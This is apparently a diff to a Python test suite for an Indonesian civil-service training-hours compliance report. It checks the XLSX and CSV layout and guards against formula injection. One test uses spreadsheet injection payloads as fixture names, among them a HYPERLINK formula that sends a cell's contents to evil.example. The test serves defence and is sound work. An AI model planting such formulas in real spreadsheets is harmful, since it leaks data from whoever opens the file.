@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
 from uuid import uuid4
 
 import msgspec
@@ -208,18 +209,65 @@ async def test_xlsx_has_the_summary_and_everyone_below_target(client, hr, ledger
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     )
     assert 'filename="kepatuhan-jp-2026.xlsx"' in resp.headers["content-disposition"]
-    book = load_workbook(io.BytesIO(resp.content), read_only=True)
+    book = load_workbook(io.BytesIO(resp.content))
     assert book.sheetnames == ["Ringkasan", "Di bawah target"]
-    summary = list(book["Ringkasan"].values)
-    assert summary[2][:5] == ("Pemerintah Kota Padang Panjang", "PEMKOT-PPJ", 6, 2, 33.33)
-    people = list(book["Di bawah target"].values)
-    assert len(people) == 6
-    assert people[1] == (
+    sheet = book["Ringkasan"]
+    summary = list(sheet.values)
+    # The kop (the government; HR sits in the root unit), the title, a blank line, the header.
+    assert summary[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
+    assert summary[1][0] == "Kepatuhan 20 JP tahun 2026: Pemerintah Kota Padang Panjang"
+    assert summary[3][:5] == ("Unit", "Kode", "PNS", "PNS capai target", "PNS %")
+    assert summary[4][:5] == ("Pemerintah Kota Padang Panjang", "PEMKOT-PPJ", 6, 2, 33.33)
+    assert sheet.freeze_panes == "A5"
+    assert sheet.auto_filter.ref == f"A4:M{len(summary)}"
+    assert sheet.column_dimensions["A"].width == 44
+    assert sheet["E5"].number_format == '0.00" %"'
+    people_sheet = book["Di bawah target"]
+    people = list(people_sheet.values)
+    assert people[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
+    assert people[1][0] == "Pegawai di bawah target JP"
+    assert people[3] == (
+        "No", "NIP", "Nama", "Jenis ASN", "Jabatan", "Unit", "JP", "Target", "Kekurangan"
+    )  # fmt: skip
+    assert len(people) == 9
+    assert people[4] == (
         1, "19810202 200602 1 002", "Budi", "PNS", "Pengadministrasi Umum",
         "DPMPTSP Kota Padang Panjang", 19.5, 20, 0.5,
     )  # fmt: skip
-    assert people[5][1:4] == ("19860427 2022 21 1 011", "Joko", "PPPK")
-    assert people[5][6:] == (0, 20, 20)
+    assert people[8][1:4] == ("19860427 2022 21 1 011", "Joko", "PPPK")
+    assert people[8][6:] == (0, 20, 20)
+    assert people_sheet.freeze_panes == "A5"
+    assert people_sheet.auto_filter.ref == "A4:I9"
+    assert people_sheet["B5"].data_type == "s"  # the NIP stays text
+    assert people_sheet["G5"].number_format == "#,##0.00"
+
+
+async def test_csv_is_the_summary_for_excel_in_an_indonesian_locale(client, hr, ledger):
+    resp = await client.get(REPORT, params={"year": 2026, "format": "csv"}, headers=hr.headers)
+    assert resp.status_code == 200
+    assert 'filename="kepatuhan-jp-2026.csv"' in resp.headers["content-disposition"]
+    lines = resp.content.decode("utf-8-sig").split("\r\n")
+    assert lines[0].startswith("Unit;Kode;PNS;PNS capai target;PNS %;PPPK;")
+    assert lines[1].startswith("Pemerintah Kota Padang Panjang;PEMKOT-PPJ;6;2;33,33;")
+
+
+async def test_xlsx_writes_typed_text_as_text_never_as_a_formula(client, hr, unit):
+    link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
+    await make_person(unit["id"], link, nip="199001012015031001", jabatan="=1+2")
+    await make_person(unit["id"], "@SUM(1+1)", nip="199001012015031002", jabatan="-2+3")
+    resp = await client.get(REPORT, params={"year": 2026, "format": "xlsx"}, headers=hr.headers)
+    assert resp.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
+        xml = "".join(
+            archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
+        )
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(io.BytesIO(resp.content))["Di bawah target"]
+    rows = {row[2].value: row for row in sheet.iter_rows(min_row=5)}
+    assert rows[link][4].value == "=1+2"
+    assert rows[link][2].data_type == rows[link][4].data_type == "s"
+    assert rows["@SUM(1+1)"][4].value == "-2+3"
+    assert rows["@SUM(1+1)"][4].data_type == "s"
 
 
 async def test_both_join_strategies_give_the_same_report(app, hr, ledger):
